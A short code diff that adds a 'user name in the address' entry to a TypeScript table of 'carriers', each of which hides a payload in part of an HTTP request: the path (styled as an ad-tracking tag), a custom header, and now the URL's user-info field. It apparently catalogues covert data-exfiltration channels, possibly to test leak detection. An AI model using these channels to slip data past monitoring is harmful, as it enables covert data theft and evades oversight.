@@ -77,6 +77,9 @@ export const carriers: Readonly<Record<string, Carrier>> = {
     part: 'path', depth: 1, alone: true, movesPath: true, named: true,
     carry: ({ url }, key, payload) => get(`${url.replace(/\/$/, '')}/activityi;src=4558437;type=a;${enc(key)}=${enc(text(payload))};ord=1?`),
   },
+  'user name in the address': {
+    part: 'host', depth: 1, alone: true, carry: (target, _key, payload) => get(plain(target).replace('//', `//${enc(text(payload))}:x@`)),
+  },
   'own header': {
     part: 'header', depth: 1, alone: true, carry: (target, _key, payload) => get(plain(target), [{ name: 'X-Context', value: enc(text(payload)) }]),
   },
